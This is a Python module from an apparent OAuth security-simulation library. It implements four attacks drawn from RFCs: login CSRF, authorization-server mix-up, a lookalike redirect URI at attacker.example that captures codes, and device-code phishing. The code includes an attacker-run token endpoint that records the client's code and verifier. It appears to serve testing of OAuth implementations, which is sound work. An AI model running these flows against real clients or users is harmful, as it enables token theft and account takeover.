"""Forged sign-in: the victim's browser is led into a sign-in that the attacker has begun or prepared."""

from collections.abc import Mapping
from typing import ClassVar
from urllib.parse import parse_qsl, urlsplit

from simlib.attacks.base import (
    AUTHORIZE_AT_ATTACKER,
    BROWSER,
    TOKEN_AT_ATTACKER,
    AttackerAssets,
    Candidate,
    FlowAttack,
    Handler,
    NotApplicable,
    Preparation,
    PreparationFailure,
    send,
)
from simlib.attacks.oauth_requests import (
    build_authorization_request,
    make_candidates,
    make_form_request,
    make_proof_key,
    read_json,
    read_parameters,
    redeem_code,
)
from simlib.scenario.effects import Answer, Context, Flow, Reply, Sleep
from simlib.scenario.messages import HttpRequest

GRANT_TYPE = "urn:ietf:params:oauth:grant-type:device_code"


class LoginCsrf(FlowAttack):
    """Link that sends the victim's browser to the client with the attacker's code.

    The victim continues under the attacker's account, which receives the data that the victim enters.
    """

    name: ClassVar[str] = "login_csrf"
    summary: ClassVar[str] = "a link with the attacker's code makes the victim's client sign in as the attacker"
    source: ClassVar[str] = "RFC 6749 section 10.12, RFC 9700 sections 2.1 and 4.7"
    needs: ClassVar[tuple[str, ...]] = ("fresh_redirect",)
    single_use: ClassVar[bool] = True

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Sign in as the attacker, with and without a challenge, and store the redirects."""
        if not self.assets.fresh_redirect:
            return NotApplicable("this client expects no redirect")
        _, challenge = make_proof_key(ctx)
        credentials = {"login": self.assets.login, "password": self.assets.password}
        candidates = []
        for label, proof in (("a code without challenge", ""), ("a code with the attacker's challenge", challenge)):
            parameters = build_authorization_request(self.assets, self.assets.redirect_uri, proof, **credentials)
            answer = yield from send("authorize", make_form_request(**parameters))
            location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 302 else ""
            if "code" in read_parameters(location):
                candidates.append(Candidate(label, location))
        return tuple(candidates) or NotApplicable("this client receives no codes")

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send the victim the link."""
        return send(BROWSER, make_form_request(step="redirect", location=candidate.value))


class IssuerMixup(FlowAttack):
    """Client of several authorization servers, made to send the code of one to another (mix-up).

    The user starts at the attacker's server, which redirects the browser to the honest one.
    """

    name: ClassVar[str] = "issuer_mixup"
    summary: ClassVar[str] = "a code of the honest server is sent to the token endpoint of the attacker's"
    source: ClassVar[str] = "RFC 9700 sections 2.1 and 4.4, RFC 9207 section 1"

    def __init__(self, assets: AttackerAssets) -> None:
        super().__init__(assets)
        self._captured: dict[str, str] = {}

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Wait for the code, and redeem it at the honest server with the verifier received with it."""
        answer = yield from send(BROWSER, make_form_request(step="other_server"))
        if isinstance(answer, Reply) and answer.status == 404:
            return NotApplicable("no browser is redirected in this flow")
        code = self._captured.get("code", "")
        if not code:
            is_signed_in = isinstance(answer, Reply) and answer.status == 200
            return NotApplicable("no code is redeemed in this flow") if is_signed_in else PreparationFailure()
        verifier = self._captured.get("code_verifier", "")
        redeemed = yield from redeem_code(self.assets, code, self.assets.redirect_uri, verifier)
        return make_candidates(redeemed, "the token for the code")

    def list_endpoints(self) -> Mapping[str, Handler]:
        """Return the endpoints of the attacker's authorization server."""
        return {AUTHORIZE_AT_ATTACKER: self._authorize, TOKEN_AT_ATTACKER: self._token}

    def _authorize(self, request: HttpRequest) -> Flow[Reply]:
        """Redirect to the honest server, with the request unchanged."""
        yield from ()
        return Reply(302, request.body)

    def _token(self, request: HttpRequest) -> Flow[Reply]:
        """Record the client's token request and refuse it."""
        yield from ()
        self._captured.update(parse_qsl(request.body.decode("ascii", "replace")))
        return Reply(400, b'{"error":"invalid_grant"}')


def build_lookalike(redirect_uri: str) -> str:
    """Build a URI at the attacker's host that begins like the client's."""
    parts = urlsplit(redirect_uri)
    if parts.netloc:
        return f"{parts.scheme}://{parts.netloc}.attacker.example{parts.path}"
    return f"{parts.scheme}://attacker.example/callback"


class LaxRedirectUri(FlowAttack):
    """Link to the honest server with a redirect URI of the attacker's that resembles the client's.

    PKCE does not protect: the attacker makes the request, and so has the verifier.
    """

    name: ClassVar[str] = "lax_redirect_uri"
    summary: ClassVar[str] = "the user signs in by a link whose redirect URI only begins like the client's"
    source: ClassVar[str] = "RFC 9700 sections 2.1 and 4.1"

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Have the victim sign in by the link, and redeem the code received."""
        if not self.assets.redirect_uri:
            yield from ()
            return NotApplicable("this client has no redirect URI")
        own_uri = build_lookalike(self.assets.redirect_uri)
        verifier, challenge = make_proof_key(ctx)
        answer = yield from send(
            BROWSER, make_form_request(step="authorize", **build_authorization_request(self.assets, own_uri, challenge))
        )
        location = answer.body.decode() if isinstance(answer, Reply) and answer.status == 200 else ""
        code = read_parameters(location).get("code", "")
        if not code:
            return PreparationFailure()
        redeemed = yield from redeem_code(self.assets, code, own_uri, verifier)
        return make_candidates(redeemed, "the token for the code")


class DevicePhishing(FlowAttack):
    """Code of the attacker's device, which the user is persuaded to enter.

    Address, page and server are the real ones; only the device is the attacker's.
    """

    name: ClassVar[str] = "device_phishing"
    summary: ClassVar[str] = "the victim approves the attacker's device with a code that it was sent"
    source: ClassVar[str] = "RFC 8628 section 5.4"
    needs: ClassVar[tuple[str, ...]] = ("device_grant",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Request codes, send the victim the user code, and poll with the device code."""
        if not self.assets.device_grant:
            yield from ()
            return NotApplicable("no device signs in by this flow")
        device = make_form_request(client_id=self.assets.client_id, scope=self.assets.scope)
        codes = read_json((yield from send("device_authorization", device)))
        if not codes:
            return PreparationFailure()
        approved = yield from send(BROWSER, make_form_request(step="device", user_code=codes["user_code"]))
        if not isinstance(approved, Reply) or approved.status != 200:
            return PreparationFailure()
        yield Sleep(float(codes["interval"]))
        fields = {"grant_type": GRANT_TYPE, "device_code": codes["device_code"], "client_id": self.assets.client_id}
        answer = yield from self.assets.by_own_key(send("token", make_form_request(**fields)))
        return make_candidates(answer, "the token of the attacker's device")
